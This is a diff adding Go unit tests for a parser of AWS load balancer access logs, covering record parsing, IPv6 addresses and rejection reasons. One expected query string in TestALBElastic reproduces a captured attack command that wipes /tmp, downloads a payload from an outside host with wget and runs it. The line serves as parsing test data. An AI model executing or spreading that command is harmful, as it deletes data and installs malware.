@@ -1,0 +1,75 @@
+package logformat
+
+import (
+	"strings"
+	"testing"
+)
+
+func TestALBElastic(t *testing.T) {
+	data := sharedFile(t, "elastic-integrations/packages/aws/data_stream/elb_logs/_dev/test/pipeline/test-alb.log")
+	recs, r := readString(t, string(data), Options{})
+	st := r.Stats()
+	// 4 NLB TLS lines and 3 connection-log lines are rejected as not-http
+	if r.Format() != ALB || len(recs) != 3 || st.Reasons[ReasonNotHTTP] != 7 || st.Lines != 10 {
+		t.Fatalf("format %q, %d records, stats %+v", r.Format(), len(recs), st)
+	}
+	space := recs[1]
+	if space.Method != "GET" || space.Path != "/shell" || space.Host != "127.0.0.1" || space.Proto != "HTTP/1.1" ||
+		space.RawQuery != "cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws" || space.UA != "Hello, world" ||
+		space.Status != 301 || space.Client.String() != "67.43.156.20" || space.Edge != "redirect" {
+		t.Errorf("SpaceInUri row %+v", space)
+	}
+	bad := recs[2]
+	if !bad.Malformed || bad.Method != "" || !strings.Contains(bad.Path, "internal-service-alb.example.com") || bad.Status != 200 {
+		t.Errorf("malformed row %+v", bad)
+	}
+}
+
+func TestALBLines(t *testing.T) {
+	base := `https 2023-04-26T12:23:00.186641Z app/x/y CLIENT 10.0.0.1:80 0.086 0.048 0.037 STATUS 200 0 57 "REQ" "curl/7.46.0" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:tg "Root=1-abc" "www.example.com" "arn:cert" 1 2018-07-02T22:22:48.364000Z "forward" "-" "-" "10.0.0.1:80" "200" "-" "-"`
+	line := func(client, status, req string) string {
+		return strings.NewReplacer("CLIENT", client, "STATUS", status, "REQ", req).Replace(base)
+	}
+	tests := []struct {
+		name, line         string
+		client, path, host string
+		status             int
+		reason             string
+	}{
+		{name: "ipv6 client", line: line("2001:db8::1:44740", "200", "GET https://h.example:443/a?b=1 HTTP/1.1"), client: "2001:db8::1", path: "/a", host: "h.example", status: 200},
+		{name: "ipv6 host", line: line("1.2.3.4:1", "404", "GET http://[2001:db8::5]:80/x HTTP/1.1"), client: "1.2.3.4", path: "/x", host: "2001:db8::5", status: 404},
+		{name: "dash status", line: line("1.2.3.4:1", "-", "GET https://h:443/ HTTP/1.1"), client: "1.2.3.4", path: "/", host: "h", status: 0},
+		{name: "extra fields", line: line("1.2.3.4:1", "200", "GET https://h:443/ HTTP/1.1") + ` TID_1 "m" "-" "X" new1 new2`, client: "1.2.3.4", path: "/", host: "h", status: 200},
+		{name: "no port", line: line("1.2.3.4", "200", "GET https://h:443/ HTTP/1.1"), reason: ReasonBadClientIP},
+		{name: "short", line: strings.Join(strings.Fields(line("1.2.3.4:1", "200", "GET"))[:12], " "), reason: ReasonFieldCount},
+		{name: "bad status", line: line("1.2.3.4:1", "2000", "GET https://h:443/ HTTP/1.1"), reason: ReasonBadStatus},
+	}
+	for _, tt := range tests {
+		recs, r := readString(t, tt.line+"\n", Options{Hint: ALB})
+		if tt.reason != "" {
+			if len(recs) != 0 || r.Stats().Reasons[tt.reason] != 1 {
+				t.Errorf("%s: %d records, reasons %v, want %s", tt.name, len(recs), r.Stats().Reasons, tt.reason)
+			}
+			continue
+		}
+		if len(recs) != 1 {
+			t.Errorf("%s: %d records, %+v", tt.name, len(recs), r.Stats())
+			continue
+		}
+		got := recs[0]
+		if got.Client.String() != tt.client || got.Path != tt.path || got.Host != tt.host || got.Status != tt.status || got.RequestID != "Root=1-abc" || got.Edge != "forward" {
+			t.Errorf("%s: %+v", tt.name, got)
+		}
+	}
+}
+
+func TestMixedFormats(t *testing.T) {
+	alb := strings.Split(string(repoFile(t, "crowdsec-hub/tests/aws-alb-logs/aws-alb-logs.log")), "\n")
+	clf := strings.Split(string(repoFile(t, "crowdsec-hub/tests/http-wordpress-scan/http-wordpress-scan.log")), "\n")
+	in := strings.Join([]string{alb[0], alb[1], alb[2], clf[0], alb[3], clf[1], "garbage line"}, "\n")
+	recs, r := readString(t, in, Options{})
+	st := r.Stats()
+	if r.Format() != ALB || len(recs) != 4 || st.Reasons[ReasonFormatMismatch] != 2 || st.Reasons[ReasonUnrecognized] != 1 {
+		t.Errorf("format %q, %d records, %+v", r.Format(), len(recs), st.Reasons)
+	}
+}
